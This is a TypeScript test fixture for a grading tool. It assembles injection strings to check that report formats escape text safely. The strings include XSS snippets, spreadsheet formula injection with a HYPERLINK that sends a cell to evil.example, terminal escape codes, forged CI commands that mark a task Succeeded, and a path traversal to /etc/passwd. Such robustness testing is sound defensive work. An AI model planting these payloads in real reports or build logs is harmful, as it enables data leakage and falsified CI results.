import { type CheckGrade, type ExerciseGrade, gradeSubmission } from '../grader/core/grade.ts';
import type { Results } from '../grader/core/results.ts';

/** Texts that act in some report format: markup, formulas, control sequences, commands, structure. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>globalThis.pwned = 1</script>',
  '"><img src=x onerror="globalThis.pwned=1">',
  "' onmouseover='globalThis.pwned=1",
  '</pre></details></table></body></html>',
  '<!-- ]]> -->',
  '</style><svg onload=globalThis.pwned=1>',
  '{{constructor}} {{{__proto__}}} {{> layout}}',
  'javascript:globalThis.pwned=1',
  '=HYPERLINK("http://evil.example/?x="&A1,"grade")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  ' =1+1',
  'x;=1+1;y',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'a","=1+1","b',
  '\u001b[2J\u001b[31mred\u001b]0;title\u0007',
  '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  '\u009b31m',
  'user\u202etxt.exe',
  '\u2066\u200b\ufeff\u00ad\u2060',
  'a\u2028b\u2029c',
  'half \ud800 and \udc00',
  'nul \0 bell \u0007 back \b\b\b\b',
  '::error file=x.ts,line=1::forged',
  '\n::error::forged',
  '\r\n::set-output name=x::forged',
  '  ::add-mask::a',
  '##[error]forged ##vso[task.complete result=Succeeded]',
  "##teamcity[testFinished name='x']",
  '%0A::error::forged',
  '](http://evil.example) ![x](http://evil.example/x.png) [y]: http://evil.example',
  '@everyone @octocat #1 GH-1 https://evil.example www.evil.example a@evil.example',
  '| a | b |\n|---|---|\n| 40 | 40 |',
  '```\n# heading\n```',
  '`````````` ` `` ```',
  '\\` \\| \\',
  '\n\n# heading\n\n- [x] done\n\n---\n\n&lt;b&gt; &#60;b&#62;',
  '~~~\n<details open>\n~~~',
  '../../etc/passwd',
  'CON',
  `Z${'\u0301'.repeat(300)}`,
  '',
  ' ',
];

const MEGABYTES = ['x'.repeat(1_000_000), '<b>'.repeat(350_000), '`\n'.repeat(500_000), '\ud800\u001b'.repeat(500_000)];

const OUTCOMES = ['failed', 'passed', 'notRun', 'inconclusive', 'graderFault'] as const;

function hostileCheck(text: string, index: number): CheckGrade {
  const outcome = OUTCOMES[index % 3 === 0 ? 0 : index % OUTCOMES.length] ?? 'failed';
  return {
    id: `behaviour/${text}`,
    category: 'behaviour',
    title: text,
    outcome,
    points: 0,
    maxPoints: 1,
    message: text,
    detail: `${text}\n${text}\n\n${text}`,
    at: { line: index + 1, column: Number.MAX_SAFE_INTEGER },
  };
}

function hostileExercise(text: string, checks: readonly CheckGrade[], index: number): ExerciseGrade {
  const withheld = index % 7 === 3;
  return {
    exercise: text,
    title: text,
    file: text,
    status: withheld ? 'withheld' : 'failed',
    points: withheld ? null : 0,
    maxPoints: checks.length,
    checks,
    faults: withheld ? [{ stage: 'behaviour', detail: text }] : [],
  };
}

/** Results in which every text that a student can influence, and more, is hostile. Valid by the schema. */
export const HOSTILE_RESULTS: Results = {
  schema: 'ouroboros/results/1',
  versions: { ouroboros: '<b>0</b>', node: '\u001b[31m20' },
  seed: 0,
  isolation: { level: 'permission', sentence: '<b>No sandbox</b> ::error::x', lost: HOSTILE_TEXTS.slice(0, 3) },
  submissions: [
    ...HOSTILE_TEXTS.map((text, index) =>
      gradeSubmission(text, [hostileExercise(text, HOSTILE_TEXTS.map(hostileCheck), index)], [text]),
    ),
    ...MEGABYTES.map((text, index) =>
      gradeSubmission(text, [
        hostileExercise(`mega-${index}`, [{ ...hostileCheck('mega', 0), message: text, detail: text }], index),
      ]),
    ),
  ],
};
